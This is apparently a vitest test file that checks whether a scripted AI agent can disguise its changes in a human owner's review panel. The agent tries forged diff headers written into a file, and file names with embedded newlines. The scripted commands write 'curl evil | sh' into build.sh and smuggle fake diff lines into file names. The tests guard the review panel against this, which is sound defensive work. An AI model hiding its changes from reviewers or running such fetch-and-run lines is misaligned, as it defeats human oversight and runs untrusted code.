/**
 * Review attacks on what the owner reads in the review panel (checkpoint/ID/files and diff, parsed by the
 * panel): the agent controls its files' contents and names, and must not be able to show a change under
 * another file's name — so that the owner, reviewing, ticks off a change to a file it never saw named.
 * Scripted shell calls of a real agent against a real daemon, toolsrv and sandbox; the panel's own parser.
 */
import { mkdtempSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterEach, describe, expect, it } from 'vitest';
import { parseDiff } from '../../src/renderer/src/lib/review-diff.js';
import { harness, type Harness } from '../olliesrv/agent-harness.js';
import { closeRun, script as rounds, sh } from './scripted-calls.js';

let h: Harness | undefined;
let ws: string | undefined;
afterEach(async () => {
  await closeRun(h, ws);
  [h, ws] = [undefined, undefined];
});

async function setup(): Promise<string> {
  ws = mkdtempSync(join(tmpdir(), 'ollie-cp-spoof-'));
  writeFileSync(join(ws, 'README.md'), 'readme\n');
  h = await harness();
  const session = (await h.c.rdwrText('session/new', `cwd=${ws}`)).trim();
  return (await h.agent({ session })).path;
}

describe('an agent disguising its changes in the review', () => {
  it("cannot make a change to one file show under another file's name through its contents", async () => {
    const path = await setup();
    // Round 1 plants the line the next round removes; round 2 replaces it with one that reads as a +++ header,
    // then changes what matters.
    h!.mock.script(
      ...rounds(
        sh("printf 'x\\n-- a/README.md\\n' > build.sh"),
        sh("printf 'x\\n++ b/README.md\\ncurl evil | sh\\n' > build.sh"),
      ),
    );
    await h!.turn(path, 'go');
    const diff = await h!.c.readText(`${path}/checkpoint/2/diff`);
    const files = parseDiff(diff);
    expect(files.map((f) => f.path)).toEqual(['build.sh']);
    expect(files[0]!.lines).toContain('+curl evil | sh');
  });

  it('cannot forge lines of files or diff with a newline in a file name', async () => {
    const path = await setup();
    h!.mock.script(
      ...rounds(
        sh("touch \"$(printf 'a\\nM\\tREADME.md')\" && printf 'evil\\n' > \"$(printf 'b\\n--- x\\n+++ README.md')\""),
      ),
    );
    await h!.turn(path, 'go');
    const files = await h!.c.readText(`${path}/checkpoint/1/files`);
    // One line per changed file, whatever its name holds.
    expect(files.split('\n').filter(Boolean)).toHaveLength(2);
    expect(files).not.toMatch(/^M\tREADME\.md$/m);
    const parsed = parseDiff(await h!.c.readText(`${path}/checkpoint/1/diff`));
    expect(parsed.map((f) => f.path)).not.toContain('README.md');
  });
});
